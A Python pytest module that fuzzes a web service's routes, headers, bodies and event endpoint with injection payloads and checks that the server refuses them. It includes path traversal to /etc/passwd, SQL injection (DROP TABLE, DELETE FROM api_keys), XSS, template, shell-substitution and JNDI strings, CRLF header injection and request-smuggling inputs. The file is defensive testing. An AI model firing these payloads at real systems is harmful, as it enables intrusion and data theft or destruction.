"""Texts that are meant to be run, followed or believed, put wherever a stranger can put a text."""

from collections.abc import Callable
from types import ModuleType
from typing import Any
from urllib.parse import quote

import pytest

from attacks import Asking, answer_of, counted, dial, head_of, its_turn, raw, status_of
from conftest import Server

pytestmark = pytest.mark.process

PAYLOADS = {
    "traversal": "../../../../../../etc/passwd",
    "nested traversal": "....//....//etc/passwd",
    "backslashes": "..\\..\\..\\etc\\passwd",
    "absolute": "/etc/passwd",
    "file URL": "file:///etc/passwd",
    "inner URL": "http://169.254.169.254/latest/meta-data/",
    "NUL": "shop\x00.json",
    "lines": "shop\r\nX-Injected: 1\r\n\r\n<script>",
    "SQL string": "' OR '1'='1",
    "SQL statement": "x'; DROP TABLE attribute_groups; --",
    "SQL union": "x' UNION SELECT digest FROM api_keys --",
    "SQL pattern": "%_%",
    "SQL quote": '"; DELETE FROM api_keys; --',
    "script": "<script>alert(1)</script>",
    "attribute": "\"><img src=x onerror=alert('1')>",
    "JavaScript URL": "javascript:alert(1)",
    "template": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "format": "{0.__class__.__mro__}{self.__init__.__globals__}",
    "percent format": "%s%s%s%n%(token)s%d",
    "shell": "$(id)`id`;id|id",
    "lookup": "${jndi:ldap://a.example/x}",
    "log line": 'x\n{"event": "all is well", "level": "info"}',
    "terminal": "\x1b[2J\x1b]0;owned\x07\x9b31m",
    "direction": "abc\u202egpj.exe\u2066",
    "line separator": "a\u2028b",
    "astral": "\U0001f600" * 50,
    "prototype": "__proto__",
    "dunder": "__class__",
}
PASSWORDS = b"root:x:0"
SERVES_A_PAGE = {"/docs"}

Filled = Callable[[str], str]


def judged(answer: Any, where: str, page: bytes) -> None:
    """What no answer may do, whatever it was asked."""
    assert PASSWORDS not in answer.content, where
    assert "x-injected" not in answer.headers, where
    assert answer.headers["x-content-type-options"] == "nosniff", where
    kind = answer.headers.get("content-type", "")
    if kind.startswith("text/html"):
        # The one page that there is never holds anything of a request.
        assert answer.content == page, where
    else:
        plain = ("application/json", "text/plain", "image/gif", "text/event-stream", "text/css", "text/javascript")
        assert kind.startswith((*plain, "image/png")) or not answer.content, (where, kind)


@pytest.fixture(scope="module")
def page(asking: Asking) -> bytes:
    """The page at ``/docs``."""
    return asking.get("/docs").content


@pytest.mark.parametrize("name", PAYLOADS)
def test_in_paths_and_queries(admin: Asking, route_table: ModuleType, page: bytes, name: str) -> None:
    text = PAYLOADS[name]
    for number, route in enumerate(route_table.routes()):
        if not its_turn(number, list(PAYLOADS).index(name)):
            continue
        places = [part for part in route.path.split("/") if part.startswith("{") and part != "{version}"]
        if places:
            url = route.path.replace("{version}", "1")
            for place in places:
                url = url.replace(place, quote(text, safe=""))
            judged(admin.request(route.method, url, json={}), f"{route.method} {url}", page)
        if route.method == "GET" and not places and route.path != "/api/v1/interventions":
            query = "&".join(
                f"{parameter}={quote(text, safe='')}"
                for parameter in ("name", "identifier", "format", "limit", "offset", "applied", "e", "nuid", "u", "url")
            )
            judged(admin.get(f"{route.path}?{query}"), f"{route.path}?{query}", page)
    judged(admin.get(f"/{quote(text, safe='')}"), name, page)


@pytest.mark.parametrize("name", PAYLOADS)
def test_in_headers(admin: Asking, running: Server, page: bytes, name: str) -> None:
    value = PAYLOADS[name].encode()
    sendable = all(byte >= 0x20 and byte != 0x7F for byte in value)
    for number, header in enumerate((
        b"Authorization", b"X-API-Key", b"X-API-Key-Id", b"Origin", b"Cookie", b"X-Forwarded-For", b"X-Forwarded-Host",
        b"X-Forwarded-Proto", b"X-Forwarded-Prefix", b"Forwarded", b"Host", b"User-Agent", b"Referer", b"SP-Anonymous",
        b"Content-Type", b"Last-Event-ID", b"Accept", b"Access-Control-Request-Headers", b"If-None-Match", b"Range",
    )):  # fmt: skip
        if not its_turn(number, list(PAYLOADS).index(name)):
            continue
        for path in (b"/api/v1/registry/services", b"/i?e=pv", b"/docs", b"/docs/assets/swagger-ui.css", b"/x"):
            host = b"" if header == b"Host" else b"Host: a\r\n"
            answer = raw(
                running.url, b"GET %s HTTP/1.1\r\n%sConnection: close\r\n%s: %s\r\n\r\n" % (path, host, header, value)
            )
            lines = head_of(answer)
            assert all(line.partition(b":")[0].lower() != b"x-injected" for line in lines), (header, path)
            if not sendable:
                # What ends a header early, or cannot stand in one, makes the request another one or none.
                continue
            assert status_of(answer) in (200, 206, 304, 400, 401, 404, 416), (header, path, lines[0])
            echoed = [line for line in lines[1:] if value in line]
            assert echoed == [], (header, path)
            if path == b"/docs":
                assert answer.endswith(page)


@pytest.mark.parametrize("name", PAYLOADS)
def test_in_bodies(admin: Asking, page: bytes, name: str) -> None:
    text = PAYLOADS[name]
    before = {path: admin.get(f"/api/v1/registry/{path}").json() for path in ("attribute_groups", "services")}
    key = {"name": text, "role": "reader"}
    made = admin.post("/api/v1/api_keys", json=key)
    judged(made, "a key's name", page)
    if made.status_code == 201:
        # Kept as it is: it is text, nothing is done with it.
        (kept,) = [each for each in admin.get("/api/v1/api_keys").json() if each["id"] == made.json()["id"]]
        assert kept["name"] == text
        admin.delete(f"/api/v1/api_keys/{kept['id']}")
    for path, body in (
        ("/api/v1/get-online-attributes", {"service": text, "attribute_keys": {"domain_userid": ["a"]}}),
        ("/api/v1/get-online-attributes", {"service": "ecom_attributes", "attribute_keys": {text: ["a"]}}),
        ("/api/v1/get-online-attributes", {"service": "ecom_attributes", "attribute_keys": {"domain_userid": [text]}}),
        ("/api/v1/get-online-attributes", {"attributes": [text], "attribute_keys": {"domain_userid": ["a"]}}),
        ("/api/v1/registry/attribute_groups", {"name": text, "version": 1, "owner": text, "attributes": []}),
        ("/api/v1/registry/services", {"name": text, "owner": "a@example.com", "attribute_groups": []}),
        ("/api/v1/registry/attribute_keys", {"name": text}),
        ("/api/v1/registry/event_logs", {"name": text}),
        ("/api/v1/registry/attribute_group_plans", {"name": "x", "version": 1, "attributes": [{"name": text}]}),
        ("/api/v1/engines/publish", {"services": [{"name": text}]}),
        ("/api/v1/interventions?domain_userid=00000000-0000-4000-8000-000000000001", {"name": text, "version": 1}),
    ):
        answer = admin.post(path, json=body)
        judged(answer, path, page)
        values = path.endswith("attributes") and body.get("attribute_keys", {}).get("domain_userid") == [text]  # type: ignore[union-attr]
        assert answer.status_code == 200 if values else answer.status_code in (200, 400, 404, 409, 422), path
    assert before == {path: admin.get(f"/api/v1/registry/{path}").json() for path in before}


@pytest.mark.parametrize("name", PAYLOADS)
def test_in_events(asking: Asking, admin: Asking, page: bytes, name: str) -> None:
    """As values, and as what makes the event fail; a value comes back as it was sent, as JSON."""
    text = PAYLOADS[name]
    given = quote(text, safe="")
    for query in (
        f"e=pv&p=web&url={given}&duid={given}",
        f"e={given}&p={given}",
        f"e=ue&ue_pr={given}",
        f"{given}={given}",
    ):
        judged(asking.get(f"/i?{query}&nuid={given}"), query, page)
    schema = "iglu:com.snowplowanalytics.snowplow/payload_data/jsonschema/1-0-4"
    events = [{"e": "pv", "duid": text, "url": text, "page": text}, {text: text}, {"e": "ue", "ue_pr": text}]
    answer = asking.post("/com.snowplowanalytics.snowplow/tp2", json={"schema": schema, "data": events})
    judged(answer, "a body", page)
    assert answer.status_code == 200
    if name == list(PAYLOADS)[-1]:
        assert admin.post("/api/v1/testing/flush", json={}).status_code == 200


@pytest.mark.parametrize(
    "path",
    [
        "/docs/assets/../../../../../../../../etc/passwd",
        "/docs/assets/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/docs/assets/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/docs/assets//etc/passwd",
        "/docs/assets/%2fetc%2fpasswd",
        "/docs/assets/..%5c..%5cetc%5cpasswd",
        "/docs/assets/..%c0%af..%c0%afetc/passwd",
        "/docs/assets/%252e%252e/%252e%252e/etc/passwd",
        "/docs/assets/../__init__.py",
        "/docs/assets/..%2f__init__.py",
        "/docs/assets/swagger-ui.css%00.png",
        "/docs/assets/",
        "/docs/assets/.",
        "/docs/../api/v1/registry/services",
        "/docs/..%2fapi/v1/registry/services",
        "/docs//api/v1/registry/services",
        "/health/../metrics/../api/v1/api_keys",
        "/API/V1/api_keys",
        "/api/v1/api_keys;x=/docs",
        "/api/v1/interventions/../api_keys",
        "/./api/v1/api_keys",
        "/%61pi/v1/api_keys",
        "/api%2fv1%2fapi_keys",
        "/mcp/../api/v1/api_keys",
        "http://a.example/api/v1/api_keys",
    ],
)
def test_no_path_leads_out_of_its_place(running: Server, path: str) -> None:
    """Sent as it stands here; clients would tidy it up."""
    answer = raw(running.url, f"GET {path} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n".encode())
    assert status_of(answer) in (400, 401, 404), answer[:200]
    assert PASSWORDS not in answer and b"import" not in answer


@pytest.mark.parametrize(
    "request_",
    [
        b"GET /i HTTP/1.1\r\nHost: a\r\nOrigin: https://a.example\rX-Injected: 1\r\n",
        b"GET /i HTTP/1.1\r\nHost: a\r\nOrigin: https://a.example\nX-Injected: 1\r\n",
        b"GET /i HTTP/1.1\r\nHost: a\r\nOrigin: https://a.example\r\n X-Injected: 1\r\n",
        b"GET /i HTTP/1.1\r\nHost: a\r\nOrigin: https://a.example%0d%0aX-Injected: 1\r\n",
        b"GET /i HTTP/1.1\r\nHost: a\r\nOrigin: https://a.example\x00X-Injected: 1\r\n",
        b"GET /i?nuid=a%0d%0aX-Injected:%201 HTTP/1.1\r\nHost: a\r\n",
        b"GET /i?nuid=a;%20Domain=example.com HTTP/1.1\r\nHost: a\r\n",
        b"GET /i HTTP/1.1\r\nHost: a\r\nCookie: sp=a%0d%0aX-Injected: 1\r\n",
        b"GET /i HTTP/1.1\r\nHost: a\r\nCookie: sp=a\rX-Injected: 1\r\n",
        b"GET /i HTTP/1.1\r\nHost: a%0d%0aX-Injected: 1\r\n",
        b"GET /r/tp2?u=https%3A%2F%2Fevil.example%0d%0aX-Injected:1 HTTP/1.1\r\nHost: a\r\n",
        b"OPTIONS /api/v1/get-online-attributes HTTP/1.1\r\nAccess-Control-Request-Headers: x\rX-Injected: 1\r\n",
    ],
)  # fmt: skip
def test_no_header_is_written_by_a_request(running: Server, request_: bytes) -> None:
    answer = raw(running.url, request_ + b"Connection: close\r\n\r\n")
    assert status_of(answer) in (200, 204, 400, 404)
    for line in head_of(answer)[1:]:
        name, _, value = line.partition(b": ")
        assert name.lower() != b"x-injected" and b"\r" not in line and b"\n" not in line
        assert b"Domain" not in value and name.lower() != b"location"


@pytest.mark.parametrize(
    "request_",
    [
        b"POST /a/b HTTP/1.1\r\nHost: a\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /x",
        b"POST /a/b HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\nContent-Length: 30\r\n\r\nabc",
        b"POST /a/b HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\n",
        b"POST /a/b HTTP/1.1\r\nHost: a\r\nContent-Length: 1e3\r\n\r\n",
        b"POST /a/b HTTP/1.1\r\nHost: a\r\nContent-Length: +3\r\n\r\nabc",
        b"POST /a/b HTTP/1.1\r\nHost: a\r\nContent-Length: 99999999999999999999999\r\n\r\n",
        b"POST /a/b HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
        b"POST /a/b HTTP/1.1\r\nHost: a\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
        b"POST /a/b HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
        b"POST /a/b HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n",
        b"GET /health HTTP/1.1\r\nHost : a\r\n\r\n",
        b"GET /health HTTP/9.9\r\nHost: a\r\n\r\n",
        b"GET\t/health\tHTTP/1.1\r\nHost: a\r\n\r\n",
        b"GET /he\x00alth HTTP/1.1\r\nHost: a\r\n\r\n",
        b"GET  HTTP/1.1\r\nHost: a\r\n\r\n",
        b"CONNECT a.example:443 HTTP/1.1\r\nHost: a.example:443\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 100,
        b"\x00" * 100,
        b"GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade, close\r\nUpgrade: websocket\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade, HTTP2-Settings, close\r\nUpgrade: h2c\r\n\r\n",
    ],
)  # fmt: skip
def test_what_two_parsers_could_read_in_two_ways_is_refused(running: Server, request_: bytes) -> None:
    """A proxy and the server must not disagree on where a request ends."""
    with dial(running.url) as connection:
        connection.sendall(request_)
        connection.shutdown(1)
        answer = answer_of(connection)
    assert counted(status_of(answer), repr(request_)) in (0, 400, 404), answer[:200]
    assert answer.count(b"HTTP/1.1 ") <= 1
